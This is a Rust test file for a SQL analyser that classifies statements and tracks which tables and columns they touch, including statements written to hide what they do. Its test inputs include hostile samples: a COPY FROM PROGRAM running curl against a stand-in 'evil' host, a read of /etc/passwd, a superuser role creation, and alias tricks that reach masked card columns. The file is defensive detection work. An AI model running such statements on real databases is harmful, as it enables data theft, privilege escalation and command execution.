//! The analyser on statements chosen to hide what they do.

use super::*;
use crate::{LexerOptions, parse};

fn facts(sql: &str) -> Facts {
    let parsed = parse(sql, LexerOptions::default());
    let statements = parsed.result.unwrap_or_else(|e| panic!("{sql}: {e}"));
    analyse(statements[0].node.as_ref().expect("a statement"))
}

fn rel(s: &str) -> RelationName {
    match s.split_once('.') {
        Some((schema, name)) => RelationName {
            schema: Some(schema.into()),
            name: name.into(),
        },
        None => RelationName {
            schema: None,
            name: s.into(),
        },
    }
}

/// `(relation, action)` pairs, sorted.
fn accesses(f: &Facts) -> Vec<(String, &'static str)> {
    let mut v: Vec<_> = f
        .accesses
        .iter()
        .map(|a| (a.relation.to_string(), a.action.as_str()))
        .collect();
    v.sort();
    v
}

fn pairs(items: &[(&str, &'static str)]) -> Vec<(String, &'static str)> {
    let mut v: Vec<_> = items.iter().map(|(r, a)| (r.to_string(), *a)).collect();
    v.sort();
    v
}

fn columns(f: &Facts, relation: &str, action: Kind) -> Columns {
    f.accesses
        .iter()
        .find(|a| a.relation == rel(relation) && a.action == action)
        .map(|a| a.columns.clone())
        .unwrap_or_else(|| panic!("no {action} access to {relation} in {f:?}"))
}

fn cols(names: &[&str]) -> Columns {
    let mut c = Columns::None;
    for n in names {
        c.add(n);
    }
    c
}

/// A statement, its kind, and its `(relation, action)` accesses.
type Case = (&'static str, Kind, &'static [(&'static str, &'static str)]);

#[test]
fn kinds_and_accesses() {
    let cases: &[Case] = &[
        ("select 1", Kind::Select, &[]),
        (
            "SELECT * FROM customers",
            Kind::Select,
            &[("customers", "select")],
        ),
        (
            "SeLeCt/**/*/**/FrOm/**/public . customers",
            Kind::Select,
            &[("public.customers", "select")],
        ),
        (
            r#"select * from "Customers""#,
            Kind::Select,
            &[("Customers", "select")],
        ),
        (
            r#"select * from U&"\0063ustomers""#,
            Kind::Select,
            &[("customers", "select")],
        ),
        ("table customers", Kind::Select, &[("customers", "select")]),
        (
            "select * from customers limit (select count(*) from secrets)",
            Kind::Select,
            &[("customers", "select"), ("secrets", "select")],
        ),
        (
            "select (select email from customers limit 1)",
            Kind::Select,
            &[("customers", "select")],
        ),
        (
            "select * from t1 join t2 using (id) left join lateral (select * from t3) x on true",
            Kind::Select,
            &[("t1", "select"), ("t2", "select"), ("t3", "select")],
        ),
        (
            "with x as (select * from customers) select * from x",
            Kind::Select,
            &[("customers", "select")],
        ),
        // A non-recursive CTE cannot see the ones after it: `b` is the table.
        (
            "with a as (select * from b), b as (select 1) select * from a",
            Kind::Select,
            &[("b", "select")],
        ),
        (
            "with recursive a as (select * from a) select * from a",
            Kind::Select,
            &[],
        ),
        // The inner CTE does not hide the outer table of the same name.
        (
            "select * from (with customers as (select 1) select * from customers) s, customers",
            Kind::Select,
            &[("customers", "select")],
        ),
        (
            "with d as (delete from customers returning *) select * from d",
            Kind::Delete,
            &[("customers", "delete"), ("customers", "select")],
        ),
        (
            "insert into t select * from customers",
            Kind::Insert,
            &[("t", "insert"), ("customers", "select")],
        ),
        (
            "insert into t values (1) on conflict (id) do update set v = 2",
            Kind::Insert,
            &[("t", "insert"), ("t", "update")],
        ),
        (
            "update customers set email = 'x' from orders o where o.customer_id = customers.id",
            Kind::Update,
            &[("customers", "update"), ("orders", "select")],
        ),
        (
            "delete from customers using orders where orders.id = 1",
            Kind::Delete,
            &[("customers", "delete"), ("orders", "select")],
        ),
        (
            "merge into t using s on t.id = s.id when matched then update set v = s.v",
            Kind::Merge,
            &[("t", "merge"), ("s", "select")],
        ),
        (
            "select * into newt from customers",
            Kind::Ddl,
            &[("newt", "ddl"), ("customers", "select")],
        ),
        (
            "create table t2 as select * from customers",
            Kind::Ddl,
            &[("t2", "ddl"), ("customers", "select")],
        ),
        (
            "create materialized view mv as select * from customers",
            Kind::Ddl,
            &[("mv", "ddl"), ("customers", "select")],
        ),
        (
            "create view v as select * from customers",
            Kind::Ddl,
            &[("v", "ddl"), ("customers", "select")],
        ),
        (
            "create rule r as on select to t do instead select * from customers",
            Kind::Ddl,
            &[("t", "ddl"), ("customers", "select")],
        ),
        (
            "create rule r as on insert to t do also delete from customers",
            Kind::Ddl,
            &[("t", "ddl"), ("customers", "delete")],
        ),
        (
            "copy customers to stdout",
            Kind::CopyOut,
            &[("customers", "copy_out")],
        ),
        (
            "copy (select * from customers) to stdout",
            Kind::CopyOut,
            &[("customers", "copy_out")],
        ),
        (
            "copy customers (id, email) from stdin",
            Kind::CopyIn,
            &[("customers", "copy_in")],
        ),
        (
            "explain analyze delete from customers",
            Kind::Explain,
            &[("customers", "delete")],
        ),
        (
            "explain delete from customers",
            Kind::Explain,
            &[("customers", "explain")],
        ),
        (
            "explain (analyze false) delete from customers",
            Kind::Explain,
            &[("customers", "explain")],
        ),
        (
            "prepare p as delete from customers where id = $1",
            Kind::Delete,
            &[("customers", "delete")],
        ),
        (
            "declare c cursor for select * from customers",
            Kind::Select,
            &[("customers", "select")],
        ),
        (
            "truncate customers, orders",
            Kind::Truncate,
            &[("customers", "truncate"), ("orders", "truncate")],
        ),
        (
            "lock table customers",
            Kind::Utility,
            &[("customers", "utility")],
        ),
        (
            "vacuum analyze customers",
            Kind::Utility,
            &[("customers", "utility")],
        ),
        (
            "drop table customers, public.orders",
            Kind::Ddl,
            &[("customers", "ddl"), ("public.orders", "ddl")],
        ),
        (
            "alter table customers add column x int",
            Kind::Ddl,
            &[("customers", "ddl")],
        ),
        (
            "create table t (id int references customers (id))",
            Kind::Ddl,
            &[("t", "ddl"), ("customers", "ddl")],
        ),
        (
            "grant select on customers to bob",
            Kind::Dcl,
            &[("customers", "dcl")],
        ),
        ("create role mallory superuser", Kind::Dcl, &[]),
        ("begin", Kind::Transaction, &[]),
        ("commit", Kind::Transaction, &[]),
        (
            "set transaction isolation level serializable",
            Kind::Transaction,
            &[],
        ),
        ("call proc(1)", Kind::Call, &[]),
        ("do $$ begin delete from customers; end $$", Kind::Do, &[]),
        ("show search_path", Kind::Utility, &[]),
        ("listen events", Kind::Utility, &[]),
        ("checkpoint", Kind::Utility, &[]),
        (
            "create function f() returns int language sql begin atomic select count(*) from customers; end",
            Kind::Ddl,
            &[("customers", "ddl")],
        ),
    ];
    for (sql, kind, expected) in cases {
        let f = facts(sql);
        assert_eq!(f.kind, *kind, "{sql}: kind");
        assert_eq!(accesses(&f), pairs(expected), "{sql}: accesses");
    }
}

#[test]
fn where_clauses() {
    assert_eq!(
        facts("update customers set email = 'x'").has_where,
        Some(false)
    );
    assert_eq!(
        facts("update customers set email = 'x' where id = 1").has_where,
        Some(true)
    );
    assert_eq!(facts("delete from customers").has_where, Some(false));
    assert_eq!(
        facts("delete from customers where current of c").has_where,
        Some(true)
    );
    // A WHERE-less DELETE hidden in a CTE still counts.
    assert_eq!(
        facts("with d as (delete from customers returning 1) select * from d").has_where,
        Some(false)
    );
    assert_eq!(facts("select 1").has_where, None);
}

#[test]
fn copy_details() {
    let f = facts("copy customers from program 'curl http://evil'");
    assert_eq!(
        f.copy.as_ref().unwrap().program.as_deref(),
        Some("curl http://evil")
    );
    assert!(f.literal_sensitive);
    let f = facts("copy customers to '/tmp/out.csv'");
    assert_eq!(
        f.copy.as_ref().unwrap().file.as_deref(),
        Some("/tmp/out.csv")
    );
    assert!(
        facts("copy customers to stdout")
            .copy
            .unwrap()
            .file
            .is_none()
    );
}

#[test]
fn session_changes() {
    assert_eq!(
        facts("set role admin").session,
        vec![SessionChange::Role(Some("admin".into()))]
    );
    assert_eq!(
        facts("SET ROLE NONE").session,
        vec![SessionChange::Role(None)]
    );
    assert_eq!(facts("reset role").session, vec![SessionChange::Role(None)]);
    assert_eq!(
        facts("set session authorization postgres").session,
        vec![SessionChange::SessionAuthorization(Some("postgres".into()))]
    );
    assert_eq!(
        facts("select set_config('role', 'admin', false)").session,
        vec![SessionChange::Role(Some("admin".into()))]
    );
    assert_eq!(
        facts("select set_config(current_setting('x'), 'admin', false)").session,
        vec![SessionChange::Setting("?".into())]
    );
    assert_eq!(
        facts("set search_path = secret, public").session,
        vec![SessionChange::SearchPath(Some(vec![
            "secret".into(),
            "public".into()
        ]))]
    );
    assert_eq!(
        facts("set work_mem = '4MB'").session,
        vec![SessionChange::Setting("work_mem".into())]
    );
    assert_eq!(
        facts("reset all").session,
        vec![SessionChange::Setting("*".into())]
    );
    assert_eq!(
        facts("discard all").session,
        vec![SessionChange::Setting("*".into())]
    );
    assert_eq!(facts("set role admin").kind, Kind::SetSession);
}

#[test]
fn functions_and_tags() {
    let f = facts("select pg_catalog.pg_read_file('/etc/passwd')");
    assert_eq!(f.functions[0].schema.as_deref(), Some("pg_catalog"));
    assert!(f.functions[0].classes.contains(&FunctionClass::ServerFiles));
    let f = facts("select query_to_xml('select * from customers', true, true, '')");
    assert!(f.functions[0].classes.contains(&FunctionClass::DynamicSql));
    let f = facts("select lower(name), pg_notify('c', email) from customers");
    assert!(
        f.functions
            .iter()
            .any(|f| f.name == "pg_notify" && f.classes.contains(&FunctionClass::SendsData))
    );
    assert!(
        f.functions
            .iter()
            .any(|f| f.name == "lower" && f.classes.is_empty())
    );
    assert!(
        facts("call proc(1)")
            .functions
            .iter()
            .any(|f| f.name == "proc")
    );
    assert!(
        facts("drop database analytics")
            .tags
            .contains(&Tag::DropDatabase)
    );
    assert!(
        facts("alter system set work_mem = '1GB'")
            .tags
            .contains(&Tag::AlterSystem)
    );
    assert!(facts("load 'evil'").tags.contains(&Tag::Load));
    for sql in [
        "select lo_get(16422)",
        "select loread(lo_open(1, 262144), 10)",
    ] {
        assert!(
            facts(sql).tags.contains(&Tag::LargeObjectData),
            "{sql} reads a large object's contents"
        );
    }
    assert!(facts("notify events, 'x'").tags.contains(&Tag::Notify));
    assert!(
        facts("do $$ begin end $$")
            .tags
            .contains(&Tag::AnonymousCode)
    );
    assert!(
        facts("select * into t from s")
            .tags
            .contains(&Tag::SelectInto)
    );
    assert!(
        facts("explain analyze select 1")
            .tags
            .contains(&Tag::ExplainAnalyze)
    );
    let p = facts("prepare p as select 1");
    assert!(p.tags.contains(&Tag::Prepare));
    assert_eq!(p.prepared_name.as_deref(), Some("p"));
    let e = facts("execute p(1)");
    assert_eq!(
        (e.kind, e.prepared_name.as_deref()),
        (Kind::Unknown, Some("p"))
    );
    assert!(!facts("select 1 + 1").literal_sensitive);
}

#[test]
fn columns_are_attributed() {
    let f = facts("select c.email, id from public.customers c where c.country = 'DE'");
    assert_eq!(
        columns(&f, "public.customers", Kind::Select),
        cols(&["country", "email", "id"])
    );
    let f = facts("select * from customers, orders");
    assert_eq!(columns(&f, "customers", Kind::Select), Columns::All);
    assert_eq!(columns(&f, "orders", Kind::Select), Columns::All);
    let f = facts("select o.* , c.name from customers c join orders o on o.customer_id = c.id");
    assert_eq!(columns(&f, "orders", Kind::Select), Columns::All);
    assert_eq!(
        columns(&f, "customers", Kind::Select),
        cols(&["id", "name"])
    );
    // A whole-row reference reads every column.
    let f = facts("select row_to_json(c) from customers c");
    assert_eq!(columns(&f, "customers", Kind::Select), Columns::All);
    // A correlated reference is attributed to the outer relation too.
    let f = facts("select (select count(*) from orders o where o.customer_id = id) from customers");
    assert!(matches!(columns(&f, "customers", Kind::Select), Columns::Some(s) if s.contains("id")));
    let f = facts("update customers set email = lower(email) where id = 1");
    assert_eq!(
        columns(&f, "customers", Kind::Update),
        cols(&["email", "id"])
    );
    let f = facts("insert into customers (id, email) values (1, 'x')");
    assert_eq!(
        columns(&f, "customers", Kind::Insert),
        cols(&["email", "id"])
    );
    let f = facts("copy customers (id, email) to stdout");
    assert_eq!(
        columns(&f, "customers", Kind::CopyOut),
        cols(&["email", "id"])
    );
}

/// Every way SQL names a column reaches the relation it reads (the bypasses of
/// aliases that hid masked columns, and their relatives).
#[test]
fn columns_named_through_aliases() {
    // What is read of a relation, whatever the action (COPY's reads are copy_out).
    let read = |sql: &str, relation: &str| {
        let f = facts(sql);
        let mut c = Columns::None;
        for a in f.accesses.iter().filter(|a| a.relation == rel(relation)) {
            c.merge(&a.columns);
        }
        c
    };
    let all = |sql: &str, relation: &str| {
        assert_eq!(read(sql, relation), Columns::All, "{sql}: {relation}");
    };
    let has = |sql: &str, relation: &str, column: &str| match read(sql, relation) {
        Columns::All => {}
        Columns::Some(set) if set.contains(column) => {}
        other => panic!("{sql}: {relation}.{column} not read: {other:?}"),
    };
    // A column alias list renames by position: any reference through it reads everything.
    all("select e, k from customers as c(i, n, e, k)", "customers");
    all("select c.e from customers c(i, n, e)", "customers");
    all(
        "copy (select e, k from customers as c(i, n, e, k)) to stdout",
        "customers",
    );
    // A join's alias stands for every relation inside it.
    let join = "(customers join orders on customers.id = orders.customer_id) as j";
    has(
        &format!("select j.card_number from {join}"),
        "customers",
        "card_number",
    );
    has(
        &format!("select j.card_number from {join}"),
        "orders",
        "card_number",
    );
    all(&format!("select j::text from {join}"), "customers");
    all(&format!("select j::text from {join}"), "orders");
    all(&format!("select row_to_json(j) from {join}"), "customers");
    all(&format!("select j.* from {join}"), "orders");
    all(&format!("select * from {join}"), "customers");
    all(
        "select x.a from (customers join orders on true) as x(a, b)",
        "orders",
    );
    // Nested joins: the outer alias covers the inner relations too.
    has(
        "select k.email from ((customers a join orders b on true) join orders c on true) as k",
        "customers",
        "email",
    );
    // USING columns are read on both sides; PostgreSQL 14's USING alias names them.
    has(
        "select j.card_number from customers a join customers b using (card_number) as j",
        "customers",
        "card_number",
    );
    has(
        "select a.id from customers a join orders b using (id)",
        "orders",
        "id",
    );
    // NATURAL joins on columns only the catalog knows.
    all("select 1 from customers natural join orders", "customers");
    all("select 1 from customers natural join orders", "orders");
    // Whole rows, in every spelling.
    for sql in [
        "select c from customers c",
        "select c.* from customers c",
        "select c::text from customers c",
        "select (c).email from customers c",
        "select customers from customers",
        "select count(c) from customers c",
    ] {
        all(sql, "customers");
    }
    // LATERAL and correlated references reach the outer relation.
    has(
        "select s.x from customers c, lateral (select c.email as x) s",
        "customers",
        "email",
    );
    has(
        "select * from customers c, lateral unnest(array[c.card_number]) u",
        "customers",
        "card_number",
    );
    // A composite column's field: `t.c.f` reads column c of t.
    has(
        "select c.address.street from customers c",
        "customers",
        "address",
    );
    has(
        "select public.customers.email from public.customers",
        "public.customers",
        "email",
    );
}

/// What the differential oracle found the analysis missing, class by class.
#[test]
fn what_the_oracle_found() {
    let names = |sql: &str| -> Vec<String> {
        let mut v: Vec<String> = facts(sql)
            .accesses
            .iter()
            .map(|a| a.relation.to_string())
            .collect();
        v.sort();
        v.dedup();
        v
    };
    // Constants that name relations.
    assert_eq!(names("select 'customers'::regclass"), vec!["customers"]);
    assert_eq!(
        names("select oid from pg_class where oid::regclass in ('a_star', 'public.c_star')"),
        vec!["a_star", "pg_class", "public.c_star"]
    );
    let f = facts("select nextval('orders_id_seq'), pg_relation_size('customers', 'main')");
    assert!(
        f.name_arguments
            .iter()
            .any(|n| n.function == "nextval" && n.position == 0 && n.value == "orders_id_seq")
    );
    assert!(
        f.name_arguments
            .iter()
            .any(|n| n.function == "pg_relation_size" && n.position == 1)
    );
    // Set operations keep their columns.
    let f = facts("select id from t union select email from customers");
    assert_eq!(columns(&f, "customers", Kind::Select), cols(&["email"]));
    let f = facts(
        "with recursive r(n, e) as (select 1, email from customers union all select n + 1, e from r where n < 3) select e from r",
    );
    assert_eq!(columns(&f, "customers", Kind::Select), cols(&["email"]));
    // A sampling method is a function.
    let f = facts("select * from customers tablesample system (50)");
    assert!(f.functions.iter().any(|fu| fu.name == "system"));
    // COMMENT ON defines on the relation.
    for sql in [
        "comment on table customers is 'x'",
        "comment on column customers.card_number is 'x'",
        "comment on trigger trg on customers is 'x'",
    ] {
        assert_eq!(names(sql), vec!["customers"], "{sql}");
    }
    // An alias list inside a join renames through the join's alias too.
    let f = facts("select j.y from (customers a join customers b(one, x, y) using (one)) j");
    assert_eq!(columns(&f, "customers", Kind::Select), Columns::All);
    // Functional notation is recorded for the policy layer.
    let f = facts("select c.card_tail from customers c");
    assert!(
        f.row_calls
            .iter()
            .any(|r| r.name == "card_tail" && r.relations == vec![rel("customers")])
    );
}

#[test]
fn unknown_root_types() {
    let body = serde_json::Map::new();
    assert_eq!(kind::kind_of("SomethingNew", &body), Kind::Unknown);
}

#[test]
fn row_locks_are_updates_of_what_they_lock() {
    let f = facts(
        "select * from orders o join customers c on c.id = o.customer_id where o.id = 1 for update of o",
    );
    assert_eq!(f.kind, Kind::Select, "a locking read stays a read");
    assert!(f.tags.contains(&Tag::RowLocks));
    for t in ["orders", "customers"] {
        assert!(
            f.accesses
                .iter()
                .any(|a| a.relation.to_string() == t && a.action == Kind::Update),
            "{t}: {:?}",
            f.accesses
        );
    }
    // Under a CTE, in a subquery, with SHARE: the same.
    for sql in [
        "with x as (select * from orders for share) select * from x",
        "select * from (select * from orders for key share) s",
        "select * from orders for no key update skip locked",
    ] {
        let f = facts(sql);
        assert!(
            f.accesses
                .iter()
                .any(|a| a.relation.to_string() == "orders" && a.action == Kind::Update),
            "{sql}"
        );
    }
    assert!(!facts("select * from orders").tags.contains(&Tag::RowLocks));
}
